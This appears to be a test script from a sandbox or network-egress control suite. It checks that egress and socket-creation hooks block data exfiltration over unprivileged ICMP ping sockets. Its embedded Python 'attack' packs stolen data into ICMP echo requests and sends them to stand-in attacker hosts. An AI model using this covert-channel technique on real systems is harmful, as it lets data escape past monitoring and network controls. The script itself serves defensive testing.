#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends ICMP echo requests by ping sockets, which need no privilege, also by ones that are older than the gate
# stopped-by: egress, sock_create
# reason: protocol
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443
client sysctl -qw net.ipv4.ping_group_range='0 2147483647'

attack_by <<'PYTHON'
from attacker import *

def ping(family):
    return socket.socket(family, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6 if family == socket.AF_INET6
                         else socket.IPPROTO_ICMP)

def echo(kind, data):
    return struct.pack("!BBHHH", kind, 0, 0, 0, 1) + data

older4, older6 = ping(socket.AF_INET), ping(socket.AF_INET6)
ready()
with attempt("older, IPv4"):
    older4.sendto(echo(8, loot("older4")), (EVIL4, 0))
with attempt("older, IPv6"):
    older6.sendto(echo(128, loot("older6")), (EVIL6, 0))
with attempt("newer, IPv4"):
    ping(socket.AF_INET).sendto(echo(8, loot("newer4")), (EVIL4, 0))
with attempt("newer, IPv6"):
    ping(socket.AF_INET6).sendto(echo(128, loot("newer6")), (EVIL6, 0))
PYTHON
works_once_open stolen:older4 stolen:older6 stolen:newer4 stolen:newer6
stopped_once_open gate
recorded egress protocol
recorded sock_create protocol
